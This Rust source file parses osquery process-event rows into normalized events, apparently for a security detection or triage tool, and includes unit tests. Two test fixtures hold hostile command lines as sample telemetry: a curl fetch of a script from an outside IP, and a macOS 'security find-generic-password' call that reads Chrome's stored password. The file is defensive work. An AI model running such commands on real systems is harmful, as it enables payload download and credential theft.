//! osquery `process_events` (and `processes`) rows, bare or wrapped in a result-log line
//! (`{"name": ..., "hostIdentifier": ..., "columns": {...}, "action": "added"}`).
//!
//! osquery writes every column as text and has no parent name: `parent` is a pid. Must not:
//! invent a parent name from that pid, or accept a batch (`"snapshot": [...]`) as one event.

use serde_json::{Map, Value};

use crate::error::EventError;
use crate::event::{Event, Format, Os};
use crate::formats::describe_user;
use crate::json::Doc;

/// What an osquery row must have to say what ran.
const WHAT: &str = "cmdline or path column";

/// Columns that mark a bare process row.
const ROW_MARKERS: [&str; 5] = ["path", "parent", "cwd", "auid", "pid"];

/// A result-log line (`columns` plus one of its envelope keys) or a bare row (`cmdline` plus a
/// process column).
pub(crate) fn matches(obj: &Map<String, Value>) -> bool {
    if let Some(cols) = obj.get("columns").and_then(Value::as_object) {
        return ["hostIdentifier", "name", "action", "unixTime"].iter().any(|k| obj.contains_key(*k)) && is_row(cols);
    }
    is_row(obj)
}

fn is_row(obj: &Map<String, Value>) -> bool {
    obj.contains_key("cmdline") && ROW_MARKERS.iter().any(|k| obj.contains_key(*k))
}

pub(crate) fn parse(obj: &Map<String, Value>) -> Result<Event, EventError> {
    let envelope = Doc::new(Format::Osquery, obj);
    let row = envelope.object("columns").unwrap_or(envelope);
    let mut e = Event::new(Format::Osquery, Os::Unknown);
    e.process_path = row.str("path")?;
    e.command_line = row.str("cmdline")?;
    // The `processes` table has a `name` column; `process_events` does not. The envelope's
    // `name` is the query's name and is never read as the process name.
    e.process_name = row.str("name")?;
    e.pid = row.uint("pid")?;
    e.ppid = row.uint("parent")?;
    e.cwd = row.str("cwd")?;
    let user = match row.str("username")? {
        Some(name) => Some(name),
        None => row.text("uid")?.map(|u| format!("uid={u}")),
    };
    e.user = describe_user(user, row.text("auid")?.map(|a| format!("auid={a}")));
    e.timestamp = match row.text("time")? {
        Some(t) => Some(t),
        None => envelope.first_str(&["calendarTime"])?.or(envelope.text("unixTime")?),
    };
    e.host = envelope.str("hostIdentifier")?;
    e.finish(WHAT)
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn result_log_wrapper() {
        let v = json!({
            "name": "pack_process-monitoring_process_events", "hostIdentifier": "web-03",
            "calendarTime": "Tue Mar 12 09:14:07 2024 UTC", "unixTime": 1710234847, "action": "added",
            "columns": {"path": "/usr/bin/curl", "cmdline": "curl -fsSL http://203.0.113.9/i.sh",
                "pid": "8812", "parent": "8790", "cwd": "/tmp", "uid": "33", "auid": "4294967295", "time": "1710234847"}
        });
        let obj = v.as_object().unwrap();
        assert!(matches(obj));
        let e = parse(obj).unwrap();
        assert_eq!(e.host.as_deref(), Some("web-03"));
        assert_eq!(e.process_name.as_deref(), Some("curl"));
        assert_eq!(e.pid, Some(8812));
        assert_eq!(e.ppid, Some(8790));
        assert_eq!(e.parent_name, None);
        assert_eq!(e.user.as_deref(), Some("uid=33"));
        assert_eq!(e.os, Os::Linux);
        assert_eq!(e.timestamp.as_deref(), Some("1710234847"));
    }

    #[test]
    fn bare_row_on_macos_with_login_uid() {
        let v = json!({"path": "/usr/bin/security", "cmdline": "security find-generic-password -wa Chrome",
            "pid": "901", "parent": "880", "cwd": "/Users/alice", "uid": "0", "auid": "501"});
        let e = parse(v.as_object().unwrap()).unwrap();
        assert_eq!(e.os, Os::Macos);
        assert_eq!(e.user.as_deref(), Some("uid=0 (login auid=501)"));
    }

    #[test]
    fn empty_row_names_the_columns() {
        let v = json!({"name": "q", "columns": {"cmdline": "", "path": "", "pid": "3"}});
        let err = parse(v.as_object().unwrap()).unwrap_err();
        assert_eq!(err.to_string(), "osquery event has no cmdline or path column");
    }

    #[test]
    fn snapshot_batches_do_not_match() {
        let v = json!({"name": "q", "snapshot": [{"cmdline": "a", "pid": "1"}], "action": "snapshot"});
        assert!(!matches(v.as_object().unwrap()));
    }
}
